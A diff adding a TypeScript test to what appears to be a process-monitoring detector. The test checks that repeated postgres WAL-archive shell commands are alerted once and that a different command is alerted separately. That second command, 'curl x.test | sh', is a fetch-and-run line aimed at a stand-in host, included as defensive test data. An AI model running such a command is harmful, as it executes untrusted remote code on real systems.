@@ -286,6 +286,27 @@ for (const [what, tell] of Object.entries(quiet)) {
   });
 }
 
+test("what a server does again with other numbers is told once; another command is told, too", () => {
+  const s = story();
+  const shell = (pid: number, command: string): SensorRecord[] => [
+    s.fork(9, pid),
+    s.exec(pid, "/bin/sh", { arguments: ["sh", "-c", command] }),
+  ];
+  const archive = (log: string, pid: number): SensorRecord[] => shell(pid, `cp pg_wal/${log} /archive/${log}`);
+  const records = [
+    s.exec(9, "/usr/lib/postgresql/15/bin/postgres"),
+    ...["0000000100000000000000A1", "0000000100000000000000A2", "0000000200000000000000A2"].flatMap((log, index) =>
+      archive(log, 10 + index),
+    ),
+    ...shell(20, "curl x.test | sh"),
+  ];
+  const commands = alertsOf(records).map(({ evidence }) => evidence.find(({ key }) => key === "command")?.value);
+  assert.deepEqual(commands, [
+    "sh -c cp pg_wal/0000000100000000000000A1 /archive/0000000100000000000000A1",
+    "sh -c curl x.test | sh",
+  ]);
+});
+
 test("a detector's memory of processes, pipes and files has a bound", () => {
   const s = story();
   const records: SensorRecord[] = [];
